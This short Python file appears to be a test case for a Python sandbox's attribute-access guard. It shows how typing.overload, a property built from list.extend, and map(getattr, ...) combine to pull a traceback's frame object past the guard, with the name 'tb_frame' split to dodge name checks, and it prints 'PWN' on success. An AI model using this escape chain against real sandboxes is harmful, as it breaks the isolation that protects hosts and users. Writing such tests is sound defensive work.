# typing.overload may read a function's __code__; a C chain the program hangs under it (a property whose getter extends a list from map(getattr, ...)) reads a traceback's frame instead: the allowance checks the object and the name read
# guard: object.__getattr__
import functools, typing


def traceback():
    try:
        raise ValueError
    except ValueError as e:
        return e.__traceback__


store = []


class Impostor:
    __code__ = property(store.extend)
    __iter__ = functools.partial(map, getattr, [traceback()], ['tb' + '_frame'])

    def __getattr__(self, name):
        if name == '__func__':
            raise AttributeError(name)
        return 'x'


typing.overload(Impostor())
print('PWN', store)
